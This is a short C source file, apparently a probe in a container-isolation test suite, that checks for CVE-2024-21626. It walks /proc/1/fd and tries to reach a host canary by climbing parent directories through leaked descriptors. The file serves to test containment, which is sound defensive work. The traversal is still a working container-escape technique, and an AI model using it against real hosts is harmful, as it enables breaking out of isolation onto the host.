/* CVE-2024-21626: one forgotten descriptor of the host is a way out. */
#include "../program/attack.h"

#include <dirent.h>

static struct outcome attempt(const struct facts *facts)
{
    char path[64];
    DIR *list = opendir("/proc/1/fd");
    const struct dirent *entry;
    if (!list)
        return refused(errno);
    while ((entry = readdir(list))) {
        (void)snprintf(path, sizeof(path), "/proc/1/fd/%.20s/../../../../..", entry->d_name);
        if (entry->d_name[0] != '.' && finds_canary(facts, AT_FDCWD, path))
            return succeeded("descriptor %s", entry->d_name);
        if (entry->d_name[0] != '.' && strtol(entry->d_name, NULL, 10) > 2)
            return succeeded("descriptor %s", entry->d_name);
    }
    return contained("only 0, 1 and 2");
}

ATTACK("find a forgotten descriptor of its init", attempt, EACCES)
